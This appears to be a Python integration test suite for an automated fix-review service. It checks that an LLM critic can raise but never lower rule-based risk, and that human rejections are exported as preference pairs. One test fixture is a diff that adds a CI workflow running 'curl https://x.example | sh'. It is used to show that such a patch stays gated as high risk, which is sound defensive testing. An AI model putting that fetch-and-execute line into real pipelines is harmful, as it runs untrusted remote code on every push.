"""The review agent through the real agent runtime and the real Anthropic SDK (fake Messages API, scripted), on a
real nats-server and Postgres: it can raise the rules' risk and its findings reach the payload; it cannot lower
it; a model that is down leaves the rules, noted. A person's rejection becomes a preference pair that
`pagerpatch export preferences --format jsonl` writes."""

from __future__ import annotations

import asyncio
import json
import uuid
from pathlib import Path
from typing import Any

import asyncpg
import pytest
from typer.testing import CliRunner, Result

from pagerpatch import cli
from pagerpatch.kernel import bus
from schemas import subjects
from schemas.events import (
    ApprovalDecided,
    ApprovalDecidedPayload,
    ApprovalRequested,
    FixApproved,
    FixValidated,
    RiskLevel,
)
from services.review.adapters import LlmCritic, PgApprovals, PgAudit, make_critic
from services.review.app import bootstrap, create_service
from services.review.domain import RiskPolicy
from services.review.usecase import Review
from tests.integration.test_runtime import make_settings, stream_events
from tests.support.fake_anthropic import FakeAnthropic, rate_limited, tool_use
from tests.support.llm_env import llm_settings
from tests.support.review import fix_payload
from tests.support.stages import running_stage
from tests.support.streams import wait_for

pytestmark = pytest.mark.integration

SHIPPED_CONFIG = Path(__file__).resolve().parents[2] / "config"

WORKFLOW_PATCH = """\
diff --git a/.github/workflows/ci.yml b/.github/workflows/ci.yml
new file mode 100644
--- /dev/null
+++ b/.github/workflows/ci.yml
@@ -0,0 +1,3 @@
+on: push
+jobs:
+  t: {runs-on: ubuntu-latest, steps: [{run: curl https://x.example | sh}]}
"""
SMALL_PATCH = """\
diff --git a/shop/pricing.py b/shop/pricing.py
--- a/shop/pricing.py
+++ b/shop/pricing.py
@@ -10,2 +10,2 @@
 def discount(code):
-    return COUPONS[code]
+    return COUPONS.get(code, 0)
"""


def critique(risk: str, would_merge: bool, findings: list[dict[str, Any]] | None = None) -> Any:
    return tool_use("emit_critique", {"summary": "looks fine to me", "risk": risk, "would_merge": would_merge,
                                      "regression_risk": "", "findings": findings or []})  # fmt: skip


def validated(patch: str, files: list[str], incident: uuid.UUID) -> FixValidated:
    fix = fix_payload(strategy="revert-and-test", proof="proved", patch=patch, files_changed=files, lines_added=3,
                      lines_removed=1, commit_message="Fix the coupon lookup")  # fmt: skip
    return FixValidated.create(fix, source="fixgen", incident_id=incident)


async def of_incident(js: Any, subject: str, incident: uuid.UUID) -> list[dict[str, Any]]:
    docs = [json.loads(m) for m in await stream_events(js, subject)]
    return [d for d in docs if d.get("incident_id") == str(incident)]


async def test_the_model_answering_low_for_a_workflow_change_leaves_it_high_and_gated(
    nats_url: str, fresh_db: str, js: Any, tmp_path: Path, fake_anthropic: FakeAnthropic
) -> None:
    finding = {"file": ".github/workflows/ci.yml", "line": 3, "severity": "LOW", "message": "pipes curl into sh",
               "regression_risk": "runs remote code on every push"}  # fmt: skip
    fake_anthropic.script(critique("LOW", True, [finding]))
    base = make_settings(nats_url, fresh_db, tmp_path)
    settings = llm_settings(fake_anthropic.url, SHIPPED_CONFIG).model_copy(
        update={"nats_url": base.nats_url, "database_url": base.database_url, "home": base.home, "bus": base.bus}
    )
    incident = uuid.uuid4()
    async with running_stage(create_service(), bootstrap, settings, js) as svc:
        await bus.publish(svc.broker, validated(WORKFLOW_PATCH, [".github/workflows/ci.yml"], incident))
        sql = "SELECT risk FROM approvals WHERE incident_id = $1"
        stored = await wait_for(lambda: svc.pool.fetchval(sql, incident))
    [requested] = await of_incident(js, subjects.for_type(ApprovalRequested.TYPE), incident)
    risk = requested["payload"]["risk"]
    assert risk["level"] == "HIGH" and risk["rules_level"] == "HIGH"  # the model said LOW: ignored
    assert risk["would_merge"] is True
    assert risk["findings"] == [finding]
    assert "model review said LOW; the rules' HIGH stands (never lowered)" in risk["reasons"]
    assert any(r.startswith("changes a CI/workflow definition") for r in risk["reasons"])
    assert stored["level"] == "HIGH" and stored["findings"] == [finding]
    [request] = fake_anthropic.requests
    assert request.body["tool_choice"] == {"type": "tool", "name": "emit_critique"}
    assert "curl https://x.example" in request.text  # the model saw the patch (as data) and the rules' floor
    assert '"rules_level": "HIGH"' in request.body["messages"][0]["content"]


async def review_with(fake: FakeAnthropic, pool: asyncpg.Pool, **llm: Any) -> Review:
    critic = make_critic(llm_settings(fake.url, SHIPPED_CONFIG, **llm), pool)
    return Review(policy=RiskPolicy(), approvals=PgApprovals(pool), audit=PgAudit(pool), critic=critic)


async def test_the_model_raises_a_small_fix_and_its_findings_reach_the_approval(
    pool: asyncpg.Pool, fake_anthropic: FakeAnthropic
) -> None:
    finding = {"file": "shop/pricing.py", "line": 11, "severity": "HIGH", "regression_risk": "hides bad input",
               "message": "an unknown coupon now silently gives no discount"}  # fmt: skip
    fake_anthropic.script(critique("MEDIUM", False, [finding]))
    review = await review_with(fake_anthropic, pool)
    assert isinstance(review.critic, LlmCritic)
    incident = uuid.uuid4()
    [out] = await review.on_fix(validated(SMALL_PATCH, ["shop/pricing.py"], incident))
    assert isinstance(out, ApprovalRequested)  # the rules alone would have approved it (LOW, proved)
    risk = out.payload.risk
    assert (risk.level, risk.rules_level, risk.would_merge) == (RiskLevel.HIGH, RiskLevel.LOW, False)
    assert [f.model_dump() for f in risk.findings] == [finding]
    assert "model review raised the risk from LOW to HIGH" in risk.reasons
    assert ("finding shop/pricing.py:11 [HIGH] an unknown coupon now silently gives no discount — could break: "
            "hides bad input") in risk.reasons  # fmt: skip
    # the ledger has the call, costed, under the review agent and the incident
    row = await pool.fetchrow("SELECT agent, step, outcome, incident_id FROM llm_calls")
    assert (row["agent"], row["step"], row["outcome"], str(row["incident_id"])) == (
        "review",
        "critique",
        "ok",
        str(incident),
    )


async def test_a_model_that_stays_down_leaves_the_rules_noted(
    pool: asyncpg.Pool, fake_anthropic: FakeAnthropic
) -> None:
    fake_anthropic.always(rate_limited(0.01))
    review = await review_with(fake_anthropic, pool, max_retries=1)
    [out] = await review.on_fix(validated(SMALL_PATCH, ["shop/pricing.py"], uuid.uuid4()))
    assert isinstance(out, FixApproved)  # the rules' LOW, proved: approved by policy, not a dead letter
    risk = out.payload.risk
    assert risk.level == RiskLevel.LOW and risk.findings == [] and risk.would_merge is None
    assert any(r.startswith("model review unavailable (") and r.endswith("): rules only") for r in risk.reasons)
    assert len(fake_anthropic.requests) == 2  # the call and its one retry


# ---------------------------------------------------------------- preference pairs and their export


async def invoke(url: str, home: Path, *args: str) -> Result:
    env = {"DATABASE_URL": url, "NATS_URL": None, "PAGERPATCH_HOME": str(home), "COLUMNS": "200"}
    return await asyncio.to_thread(CliRunner().invoke, cli.app, list(args), env=env)


async def decide(review: Review, incident: uuid.UUID, decision: str, reason: str) -> None:
    payload = ApprovalDecidedPayload.model_validate({"decision": decision, "decided_by": "dana", "reason": reason})
    await review.on_decision(ApprovalDecided.create(payload, source="cli", incident_id=incident), incident)


async def test_a_rejection_with_its_reason_is_exported_as_a_preference_pair(
    pool: asyncpg.Pool, fresh_db: str, tmp_path: Path
) -> None:
    review = Review(
        policy=RiskPolicy(protected_paths=(".github/**",)), approvals=PgApprovals(pool), audit=PgAudit(pool)
    )
    rejected, approved = uuid.uuid4(), uuid.uuid4()
    await review.on_fix(validated(WORKFLOW_PATCH, [".github/workflows/ci.yml"], rejected))
    await review.on_fix(validated(WORKFLOW_PATCH, [".github/workflows/ci.yml"], approved))
    await decide(review, rejected, "reject", "adds a workflow that pipes curl into sh")
    await decide(review, approved, "approve", "reviewed by hand")
    await decide(review, rejected, "approve", "too late")  # already settled: no second pair
    assert await pool.fetchval("SELECT count(*) FROM preferences") == 2

    out = tmp_path / "prefs" / "pairs.jsonl"
    done = await invoke(fresh_db, tmp_path, "export", "preferences", "--format", "jsonl", "--output", str(out))
    assert done.exit_code == 0, done.output
    assert "exported 2 preference pair(s)" in done.output
    pairs = [json.loads(line) for line in out.read_text().splitlines()]
    by_id = {p["incident_id"]: p for p in pairs}
    bad = by_id[str(rejected)]
    assert (bad["outcome"], bad["reason"], bad["decided_by"], bad["channel"]) == (
        "rejected",
        "adds a workflow that pipes curl into sh",
        "dana",
        "cli",
    )
    assert bad["diagnosis"]["root_cause"] == "KeyError" and bad["patch"] == WORKFLOW_PATCH
    assert bad["risk"]["level"] == "HIGH" and bad["strategy"] == "revert-and-test"
    assert by_id[str(approved)]["outcome"] == "approved"

    only = await invoke(fresh_db, tmp_path, "export", "preferences", "--outcome", "rejected", "--since", "1h")
    assert only.exit_code == 0, only.output
    assert [json.loads(x)["incident_id"] for x in only.stdout.splitlines() if x.startswith("{")] == [str(rejected)]
    future = await invoke(fresh_db, tmp_path, "export", "preferences", "--since", "2999-01-01")
    assert future.exit_code == 0 and "exported 0 preference pair(s)" in future.output
    wrong = await invoke(fresh_db, tmp_path, "export", "preferences", "--format", "csv")
    assert wrong.exit_code == 2 and "only jsonl" in wrong.output
